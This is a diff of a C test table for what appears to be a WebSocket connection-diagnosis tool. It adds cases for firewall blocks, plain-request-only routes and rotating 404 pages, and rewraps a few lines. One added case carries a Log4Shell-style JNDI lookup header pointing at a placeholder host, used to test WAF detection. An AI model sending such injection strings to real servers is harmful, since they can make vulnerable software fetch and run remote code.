@@ -595,6 +595,33 @@ static const struct patient patients[] = {
 	 .answers = {{DOCTOR_NO_QUERY, NULL, "@open"}},
 	 .cause = "access.waf",
 	 .at_least = 0.9},
+	{.name = "a firewall that finds code in a field",
+	 .url = URL,
+	 .header = "X-Trace: ${jndi:ldap://a.example/b}",
+	 .answer = NGINX_403,
+	 .answers = {{DOCTOR_NO_HEADER, NULL, "@open"},
+		     {DOCTOR_MINIMAL, NULL, "@open"}},
+	 .cause = "access.waf",
+	 .at_least = 0.9},
+	{.name = "a route that is for plain requests alone",
+	 .url = URL,
+	 .answer = "HTTP/1.1 400 Bad Request\n\n<h1>Bad Request</h1>",
+	 .answers = {{DOCTOR_PLAIN_GET, NULL, "HTTP/1.1 200 OK\n\nhello"},
+		     {DOCTOR_PATH, NULL, "HTTP/1.1 404 N\n\nno"}},
+	 .cause = "server.no-websocket",
+	 .at_least = 0.4},
+	{.name = "a page that has a sentence of the day",
+	 .url = URL,
+	 .origin = "https://a.example",
+	 .answer = "HTTP/1.1 404 N\n\n<p>Nobody knows where this page went, "
+		   "and nobody will look for it. Alas</p> || "
+		   "HTTP/1.1 404 N\n\n<p>Nobody knows where this page went, "
+		   "and nobody will look for it. Behind you</p> || "
+		   "HTTP/1.1 404 N\n\n<p>Nobody knows where this page went, "
+		   "and nobody will look for it. Onward</p>",
+	 .answers = {{DOCTOR_PATH, "/ws", "@open"}},
+	 .cause = "url.path",
+	 .at_least = 0.9},
 	{.name = "a naked backend beside a proxy that minds the Origin",
 	 .url = URL,
 	 .origin = "https://a.example",
@@ -663,7 +690,8 @@ static const struct patient patients[] = {
 		      "HTTP/1.1 404 Not Found\n\n404: Not Found"}},
 	 .cause = "access.permission",
 	 .at_least = 0.8},
-	{.name = "a token that is malformed, told by 400 to a plain GET as well",
+	{.name = "a token that is malformed, told by 400 to a plain GET as "
+		 "well",
 	 .url = URL,
 	 .answer = "HTTP/1.1 400 Bad Request\nContent-Type: "
 		   "application/json\n\n{\"message\":\"missing or malformed "
@@ -698,8 +726,7 @@ static const struct patient patients[] = {
 		   "application/json\n\n{\"statusCode\":500,\"code\":"
 		   "\"FST_REPLY_FROM_INTERNAL_SERVER_ERROR\",\"message\":"
 		   "\"invalid upgrade header\"}",
-	 .answers = {{DOCTOR_PLAIN_GET, NULL,
-		      "HTTP/1.1 400 Bad Request\n\nno"}},
+	 .answers = {{DOCTOR_PLAIN_GET, NULL, "HTTP/1.1 400 Bad Request\n\nno"}},
 	 .cause = "server.proxy-upgrade",
 	 .at_least = 0.7},
 	{.name = "ws at another path",
